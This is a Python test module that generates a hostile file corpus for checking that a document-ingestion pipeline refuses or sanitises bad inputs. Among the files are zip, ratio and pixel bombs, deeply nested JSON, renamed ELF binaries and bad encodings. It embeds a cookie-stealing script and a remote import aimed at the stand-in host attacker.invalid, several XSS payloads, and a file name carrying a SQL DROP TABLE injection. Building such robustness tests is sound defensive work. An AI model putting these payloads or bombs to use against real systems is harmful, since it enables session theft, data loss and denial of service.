"""A hostile corpus, generated on the fly: files built to break an ingestion pipeline.

Each ``HostileKind`` writes one file and says what must become of it: refused with a reason
matching ``reason`` (which names the limit or the fix), or ingested safely (with a check on the
stored Markdown). Two good control files ride along; they must be searchable afterwards.
``python -m tests.workbench.ingestion.hostile_corpus DIR`` writes the corpus to DIR for trying
it by hand (see docs/RELIABILITY.md).
"""

from __future__ import annotations

import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024


@dataclass(frozen=True)
class HostileKind:
    kind: str  # what it is, for reports
    filename: str
    make: Callable[[Path], None]
    outcome: str  # "failed" or "ingested"
    reason: str = ""  # regex the failure reason must match
    limit: str = ""  # the limit or check that stops it
    check: Callable[[str], bool] | None = None  # on the stored Markdown, for ingested files


CONTROLS = {
    "control-lighthouse.md": "# Lighthouse keeping\n\nThe keeper trims the lamp wick at dusk and logs passing "
    "freighters in the harbour ledger.\n",
    "control-tea.txt": "西湖龙井是一种绿茶，产于杭州。采茶的季节在清明节前后，茶叶用铁锅手工炒制。\n",
}


def _write(data: bytes) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data)

    return write


def _zip_package(
    path: Path, members: dict[str, bytes], inflated: tuple[str, int] | None = None, extra_members: int = 0
) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        for name, data in members.items():
            package.writestr(name, data)
        if inflated is not None:  # a member of `size` bytes of spaces, streamed so memory stays flat
            name, size = inflated
            block = b" " * MB
            with package.open(name, "w", force_zip64=True) as member:
                for _ in range(size // MB):
                    member.write(block)
        for number in range(extra_members):
            package.writestr(f"customXml/item{number}.xml", b"<a/>")


_DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _zip_bomb_docx(path: Path) -> None:
    """300 KB on disk; word/document.xml inflates to 300 MB."""
    _zip_package(path, {"[Content_Types].xml": _DOCX_TYPES}, inflated=("word/document.xml", 300 * MB))


def _ratio_bomb_pptx(path: Path) -> None:
    """Under the size limit (150 MB) but compressed about 1000:1."""
    _zip_package(path, {"[Content_Types].xml": _DOCX_TYPES}, inflated=("ppt/presentation.xml", 150 * MB))


def _many_members_xlsx(path: Path) -> None:
    _zip_package(path, {"[Content_Types].xml": _DOCX_TYPES, "xl/workbook.xml": b"<workbook/>"}, extra_members=12_000)


def _xlsx_renamed_docx(path: Path) -> None:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active.append(["a", "b"])
    workbook.save(path)


def _big_text(path: Path) -> None:
    """50 MB of prose-like text, written in blocks."""
    rng = random.Random(50)
    words = ["harbour", "lantern", "granite", "meadow", "compass", "orchard", "beacon", "tidal", "ember", "quarry"]
    line = " ".join(rng.choice(words) for _ in range(1200)) + "\n"
    with path.open("w", encoding="utf-8") as out:
        for _ in range(50 * MB // len(line) + 1):
            out.write(line)


def _pdf(pages: list[str], encrypt: str | None = None) -> bytes:
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    encryption = pdfencrypt.StandardEncryption(encrypt, canPrint=0) if encrypt else None
    pdf = canvas.Canvas(buffer, encrypt=encryption)
    for text in pages:
        pdf.drawString(72, 750, text)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _truncated_pdf(path: Path) -> None:
    data = _pdf(["Quarterly report: revenue rose in the northern region."] * 3)
    path.write_bytes(data[: len(data) // 3])


def _png_header_bomb(path: Path) -> None:
    """A PNG whose header claims 100,000 x 100,000 pixels (10 gigapixels) in a few hundred bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 1, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def _csv_rows(path: Path) -> None:
    with path.open("w", encoding="utf-8") as out:
        out.write("id,station,reading,comment\n")
        for number in range(100_000):
            out.write(f"{number},station-{number % 97},{(number * 37) % 1000 / 10},reading number {number}\n")


def _nested_json(path: Path) -> None:
    depth = 100_000
    path.write_text('{"a":' * depth + "1" + "}" * depth, encoding="utf-8")


def _nested_html(path: Path) -> None:
    depth = 50_000
    path.write_text("<html><body>" + "<div>" * depth + "deep" + "</div>" * depth + "</body></html>", encoding="utf-8")


_SCRIPT_HTML = """<html><head><title>Harbour schedule</title>
<script>document.location='http://attacker.invalid/?c='+document.cookie</script>
<style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('onload')"><h1>Harbour schedule</h1>
<p>The ferry leaves at nine.<img src=x onerror="alert('img')"></p>
<iframe src="javascript:alert('frame')"></iframe>
<a href="javascript:alert('link')">timetable</a>
<script type="module">import('http://attacker.invalid/x.js')</script>
</body></html>"""

_SCRIPT_MARKDOWN = """# Ferry notes

The ferry to the island runs hourly in summer.

<script>alert('markdown')</script>
<img src=x onerror="alert('md-img')">
[click me](javascript:alert('md-link'))
"""


def hostile_kinds() -> list[HostileKind]:
    rng = random.Random(9)
    elf = b"\x7fELF\x02\x01\x01" + bytes(rng.randrange(256) for _ in range(4096))
    return [
        HostileKind(
            "zip bomb (300 MB inflated)",
            "zip-bomb.docx",
            _zip_bomb_docx,
            "failed",
            r"inflates to 300 MB.*ingest\.max_unzipped_mb",
            "ingest.max_unzipped_mb",
        ),
        HostileKind(
            "compression-ratio bomb",
            "ratio-bomb.pptx",
            _ratio_bomb_pptx,
            "failed",
            r"compressed [\d,]+:1.*ingest\.max_compression_ratio",
            "ingest.max_compression_ratio",
        ),
        HostileKind(
            "ZIP with 12,000 members",
            "many-members.xlsx",
            _many_members_xlsx,
            "failed",
            r"12,00\d members.*ingest\.max_zip_members",
            "ingest.max_zip_members",
        ),
        HostileKind(
            "50 MB text file",
            "huge.txt",
            _big_text,
            "failed",
            r"over the 20 MB limit \(ingest\.max_file_mb\)\. Raising it would cost about [\d,]+ chunks, roughly",
            "ingest.max_file_mb",
        ),
        HostileKind(
            "100,000-row CSV",
            "rows.csv",
            _csv_rows,
            "failed",
            r"would make about [\d,]+ chunks.*ingest\.max_chunks",
            "ingest.max_chunks",
        ),
        HostileKind(
            "deeply nested JSON (100,000 levels)",
            "nested.json",
            _nested_json,
            "failed",
            r"nested too deeply",
            "JSON depth check",
        ),
        HostileKind(
            "deeply nested HTML (50,000 divs)", "nested.html", _nested_html, "ingested", check=lambda md: "deep" in md
        ),
        HostileKind(
            "ELF binary renamed .pdf", "program.pdf", _write(elf), "failed", r"not a PDF file", "PDF signature check"
        ),
        HostileKind(
            "ELF binary renamed .docx",
            "program.docx",
            _write(elf),
            "failed",
            r"not a valid DOCX",
            "ZIP signature check",
        ),
        HostileKind(
            "ELF binary renamed .txt", "program.txt", _write(elf), "failed", r"binary data, not text", "text decoding"
        ),
        HostileKind(
            "legacy/encrypted Office container renamed .docx",
            "legacy.docx",
            _write(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048),
            "failed",
            r"password-protected, or a legacy Office file",
            "CFB signature check",
        ),
        HostileKind(
            "Excel workbook renamed .docx",
            "workbook.docx",
            _xlsx_renamed_docx,
            "failed",
            r"an Excel workbook, not a Word document",
            "package part check",
        ),
        HostileKind(
            "truncated PDF",
            "truncated.pdf",
            _truncated_pdf,
            "failed",
            r"not a valid PDF \(file is corrupt or truncated\)",
            "PDF parser",
        ),
        HostileKind(
            "password-protected PDF",
            "encrypted.pdf",
            _write(_pdf(["Secret minutes of the board."], encrypt="hunter2")),
            "failed",
            r"password-protected PDF",
            "PDF parser",
        ),
        HostileKind(
            "image whose header claims 10 gigapixels",
            "pixel-bomb.png",
            _png_header_bomb,
            "failed",
            r"ingest\.max_image_megapixels",
            "ingest.max_image_megapixels",
        ),
        HostileKind(
            "PNG signature followed by garbage",
            "corrupt.png",
            _write(b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(512))),
            "failed",
            r"not a readable image|corrupt or truncated",
            "image decoder",
        ),
        HostileKind(
            "invalid UTF-8 (GBK bytes)",
            "gbk.txt",
            _write("错误的编码会产生乱码，必须拒绝。".encode("gbk") * 20),
            "failed",
            r"not UTF-8 text.*re-save it as UTF-8",
            "text decoding",
        ),
        HostileKind("empty file", "empty.md", _write(b""), "failed", r"empty file \(0 bytes\)", "empty check"),
        HostileKind("only whitespace", "blank.md", _write(b" \n\t\n   \n"), "failed", r"no text", "empty check"),
        HostileKind(
            "executable extension",
            "setup.exe",
            _write(b"MZ\x90\x00" + elf),
            "failed",
            r"unsupported file type '\.exe'",
            "type check",
        ),
        HostileKind("no extension", "README", _write(b"plain words"), "failed", r"no file extension", "type check"),
        HostileKind(
            "broken notebook",
            "analysis.ipynb",
            _write(b'{"cells": [ {"cell_type": '),
            "failed",
            r"not a valid Jupyter notebook",
            "notebook check",
        ),
        HostileKind(
            "UTF-16 text with a byte-order mark",
            "utf16.txt",
            _write("Tidal charts for the northern harbour.\n".encode("utf-16")),
            "ingested",
            check=lambda md: "Tidal charts for the northern harbour." in md,
        ),
        HostileKind(
            "NUL bytes inside UTF-8 text",
            "nul-bytes.md",
            _write(b"# Granite\x00 quarry\n\nBlocks\x00 are cut\x00 by wire saws.\n"),
            "ingested",
            check=lambda md: "\x00" not in md and "Blocks are cut by wire saws." in md,
        ),
        HostileKind(
            "right-to-left override in the file name",
            "invoice\u202etxt.exe.md",
            _write(b"# Invoice\n\nMeadow supplies, forty crates.\n"),
            "ingested",
            check=lambda md: "forty crates" in md,
        ),
        HostileKind(
            "SQL-looking file name",
            "x'); DROP TABLE documents; --.md",
            _write(b"# Orchard\n\nApple trees are pruned in late winter.\n"),
            "ingested",
            check=lambda md: "pruned in late winter" in md,
        ),
        HostileKind(
            "script-laden HTML",
            "scripts.html",
            _write(_SCRIPT_HTML.encode()),
            "ingested",
            check=lambda md: (
                "ferry leaves at nine" in md and "attacker" not in md and "<script" not in md and "onerror" not in md
            ),
        ),
        HostileKind(
            "script-laden Markdown (kept as text, never run)",
            "scripts.md",
            _write(_SCRIPT_MARKDOWN.encode()),
            "ingested",
            check=lambda md: "runs hourly" in md,
        ),
        HostileKind(
            "Python 2 source (does not parse as Python 3)",
            "legacy.py",
            _write(b"print 'hello'\n\ndef add(a, b):\n    return a + b\n"),
            "ingested",
            check=lambda md: "def add" in md,
        ),
    ]


def write_corpus(folder: Path, with_controls: bool = True) -> list[HostileKind]:
    folder.mkdir(parents=True, exist_ok=True)
    kinds = hostile_kinds()
    for kind in kinds:
        kind.make(folder / kind.filename)
    if with_controls:
        for name, text in CONTROLS.items():
            (folder / name).write_text(text, encoding="utf-8")
    return kinds


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    made = write_corpus(target)
    print(json.dumps({"folder": str(target), "kinds": len(made)}))
